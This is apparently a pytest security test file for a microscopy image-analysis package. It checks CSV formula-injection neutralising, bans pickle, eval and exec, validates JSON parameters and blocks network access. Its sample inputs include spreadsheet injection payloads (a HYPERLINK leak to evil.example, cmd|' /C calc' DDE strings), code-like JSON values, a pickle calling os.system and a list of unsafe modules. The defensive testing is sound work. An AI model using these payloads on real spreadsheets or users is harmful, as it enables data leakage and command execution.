"""Untrusted text and files: no spreadsheet formulas in CSVs, no code from data, no network.

* Channel names (from OME metadata), sample-sheet conditions and file names reach the CSVs:
  any text cell that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``) is
  prefixed with an apostrophe; headers too.
* Parameters and settings are JSON, validated against their schema; the package never uses
  pickle, eval or exec.
* An analysis opens no network connection.
"""

from __future__ import annotations

import csv
import io
import json
import socket
import tokenize
from pathlib import Path

import numpy as np
import pandas as pd
import tifffile
from corpus import write_movie

import pgpviewer
from pgpviewer.cli import main
from pgpviewer.core.export import neutralise
from pgpviewer.core.params import AnalysisParams

PACKAGE = Path(pgpviewer.__file__).resolve().parent
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Hoechst")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def formula_cells(path: Path) -> list[tuple[int, str]]:
    """Cells (and headers) of a CSV that a spreadsheet would evaluate: not numbers, trigger."""
    bad = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row_no, row in enumerate(csv.reader(fh)):
            for cell in row:
                if not cell.startswith(TRIGGERS):
                    continue
                try:
                    float(cell)  # -1.5, +3 and -inf are numbers, not formulas
                except ValueError:
                    bad.append((row_no, cell))
    return bad


def write_evil_movie(path: Path) -> Path:
    """A 4-channel OME-TIFF whose channel names are spreadsheet formulas."""
    rng = np.random.default_rng(3)
    data = (100 + rng.poisson(20, (2, 4, 48, 48))).astype(np.uint16)
    data[:, :, 10:26, 10:26] += 900
    data[:, :, 28:44, 24:40] += 700
    tifffile.imwrite(
        path, data, ome=True, metadata={"axes": "TCYX", "Channel": {"Name": EVIL_NAMES}}
    )
    return path


def test_formula_channel_names_never_reach_a_csv_as_formulas(tmp_path, capfd):
    image = write_evil_movie(tmp_path / "evil.ome.tif")
    params = tmp_path / "manual.json"
    params.write_text(json.dumps({"gate": {"source": "manual", "manual_value": 50.0}}))
    out = tmp_path / "out"
    roles = ["--channel", "nuclei=0", "--channel", "pgp=2"]
    assert main(["analyze", str(image), "--out", str(out), "--params", str(params), *roles]) == 0
    capfd.readouterr()
    csvs = sorted(out.glob("*.csv"))
    assert len(csvs) == 5
    for f in csvs:
        assert formula_cells(f) == [], f.name
    # the names are kept verbatim where they are data, not cells: params.json (JSON is safe)
    prov = json.loads((out / "params.json").read_text(encoding="utf-8"))
    assert prov["input"]["stack"]["channel_names"] == EVIL_NAMES
    assert prov["channel_roles"]["nuclei"]["name"] == EVIL_NAMES[0]


def test_text_cells_and_headers_are_neutralised():
    from pgpviewer.batch_tables import format_csv

    table = pd.DataFrame(
        {
            "population": ["donor", "=1+2", "+A1", "-cmd", "@SUM(A1)", None],
            "=evil_header": ["ok", "\tTAB", "\rCR", "two\rlines", "y", "z"],
            "value": [-1.5, 2.0, -3.0, np.nan, 0.0, -0.25],
            "flag": [True, False, True, False, True, False],
        }
    )
    text = format_csv(table)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["population", "'=evil_header", "value", "flag"]
    assert [r[0] for r in rows[1:]] == ["donor", "'=1+2", "'+A1", "'-cmd", "'@SUM(A1)", ""]
    assert [r[1] for r in rows[1:]] == ["ok", "'\tTAB", "'\nCR", "two\nlines", "y", "z"]
    assert [r[2] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "", "0.0", "-0.25"]
    assert [r[3] for r in rows[1:]] == ["true", "false", "true", "false", "true", "false"]
    assert neutralise("=x") == "'=x" and neutralise(-2) == -2 and neutralise("a=b") == "a=b"


def test_batch_tables_neutralise_sample_sheet_text(tmp_path):
    """Conditions, extra sample-sheet columns and file names reach batch_*.csv as text."""
    from distributed import Client, LocalCluster

    from pgpviewer.batch import run_batch

    data = tmp_path / "data"
    write_movie(data / "=1+1.ome.tif", seed=31)
    write_movie(data / "well 2.ome.tif", seed=32)
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(
        # (a quoted cell with "" inside is misread by batch_conditions._sniff: reported)
        "file,condition,replicate,note\n"
        '=1+1.ome.tif,=HYPERLINK("http://evil.example"),1,+cmd\n'
        "well 2.ome.tif,@drug,1,-2+3\n",
        encoding="utf-8",
    )
    out = tmp_path / "batch"
    cluster = LocalCluster(n_workers=1, threads_per_worker=1, processes=False)
    try:
        with Client(cluster) as client:
            result = run_batch(
                [], out, sample_sheet=sheet, client=client, write_reports=False,
                stream=io.StringIO(),
            )
    finally:
        cluster.close()
    assert result.exit_status == 0
    written = [out / "batch_summary.csv", out / "conditions.csv", out / "batch_files.csv"]
    for f in written:
        assert f.is_file(), f
        assert formula_cells(f) == [], (f.name, formula_cells(f))
    summary = pd.read_csv(out / "batch_summary.csv", dtype=str, keep_default_na=False)
    assert set(summary["condition"]) == {"'=HYPERLINK(\"http://evil.example\")", "'@drug"}
    assert "'=1+1.ome.tif" in set(summary["file"])


# -- no code from data ---------------------------------------------------------------------------
_UNSAFE_MODULES = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal", "shelve"}
_UNSAFE_CALLS = {"eval", "exec"}
_UNSAFE_ATTRS = {"read_pickle", "to_pickle", "allow_pickle"}


def unsafe_uses(path: Path) -> list[str]:
    """Code (not comments or strings) that deserialises or runs text: pickle, eval, exec."""
    found = []
    with open(path, "rb") as fh:
        tokens = list(tokenize.tokenize(fh.readline))
    for i, tok in enumerate(tokens):
        if tok.type != tokenize.NAME:
            continue
        prev = tokens[i - 1].string if i else ""
        nxt = tokens[i + 1].string if i + 1 < len(tokens) else ""
        where = f"{path.relative_to(PACKAGE.parent)}:{tok.start[0]}"
        if tok.string in _UNSAFE_MODULES:
            found.append(f"{where}: {tok.string}")
        elif tok.string in _UNSAFE_CALLS and nxt == "(" and prev != ".":
            found.append(f"{where}: {tok.string}(")  # app.exec() of Qt is a method: allowed
        elif tok.string in _UNSAFE_ATTRS:
            found.append(f"{where}: {tok.string}")
    return found


def test_package_never_uses_pickle_eval_or_exec():
    files = sorted(PACKAGE.rglob("*.py"))
    assert len(files) > 20
    found = [hit for f in files for hit in unsafe_uses(f)]
    assert found == [], found


def test_parameter_files_are_validated_json(tmp_path):
    """A params file is data: unknown keys and code-like values are refused, never run."""
    import pytest

    from pgpviewer.core.errors import InputError

    p = tmp_path / "params.json"
    p.write_text(json.dumps({"__class__": "os.system", "segmentation": {"method": "classical"}}))
    with pytest.raises(InputError, match="__class__"):
        AnalysisParams.load(p)
    p.write_text(json.dumps({"segmentation": {"cell_diameter_px": "__import__('os')"}}))
    with pytest.raises(InputError, match="cell_diameter_px"):
        AnalysisParams.load(p)
    p.write_text(AnalysisParams().to_json())
    assert AnalysisParams.load(p) == AnalysisParams()


def test_settings_file_with_unexpected_content_is_ignored(tmp_path):
    from pgpviewer.session.settings import AppSettings, load_settings

    p = tmp_path / "settings.json"
    p.write_text(json.dumps({"recent_folders": {"__reduce__": "os.system"}, "version": 1}))
    assert load_settings(p) == AppSettings()
    p.write_bytes(b"\x80\x04\x95cos\nsystem\n")  # a pickle, not JSON
    assert load_settings(p) == AppSettings()


# -- no network ------------------------------------------------------------------------------------
def test_analysis_opens_no_network_connection(tmp_path, capfd, monkeypatch):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access during an analysis")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    image = write_movie(tmp_path / "movie.ome.tif")
    out = tmp_path / "out"
    status = main(["analyze", str(image), "--out", str(out), "--workers", "1"])
    err = capfd.readouterr().err
    assert status == 0, err
    assert attempts == []
    assert (out / "report.html").is_file()
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "http://" not in html.replace("http://www.w3.org", "")  # self-contained report
